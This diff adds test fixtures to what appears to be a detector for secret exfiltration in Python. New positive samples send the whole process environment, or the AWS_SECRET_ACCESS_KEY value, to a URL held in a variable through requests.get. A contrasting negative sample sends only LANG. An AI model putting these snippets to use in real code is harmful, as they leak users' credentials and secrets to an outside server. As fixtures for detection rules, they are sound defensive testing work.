@@ -84,9 +84,19 @@ RULES = [
                 "                found[name] = text\n"
                 f"    requests.post({URL!r}, json=found)\n"
             ),
+            # The whole environment, imported by name (`from os import environ`).
+            positive(
+                "import requests\nfrom os import environ\ndef f():\n    s = ''\n"
+                "    for _, value in environ.items():\n        s += value + ' '\n"
+                f"    requests.get({URL!r} + s)\n"
+            ),
             negative(
                 "import requests\ndef f():\n    cfg = open('config.json').read()\n"
                 f"    requests.post({URL!r}, data=cfg)\n"
+            ),
+            negative(
+                "import requests\nfrom os import environ\ndef f():\n"
+                f"    requests.get({URL!r} + environ.get('LANG', ''))\n"
             ),
             negative(
                 "import os, requests\ndef f(root):\n    found = {}\n"
@@ -158,6 +168,12 @@ RULES = [
                 "import requests\nclass Credentials:\n"
                 "    def __init__(self, access_key_id, access_key_secret):\n"
                 f"        requests.post({URL!r}, json={{'ak': access_key_id, 'sk': access_key_secret}})\n"
+            ),
+            # Read from the environment by its variable's name.
+            positive(
+                "import os, requests\ndef f():\n"
+                "    secret = os.getenv('AWS_SECRET_ACCESS_KEY')\n"
+                f"    requests.get({URL!r} + '/' + secret)\n"
             ),
             negative(
                 "import hmac, requests\ndef call(access_key_id, access_key_secret, body):\n"
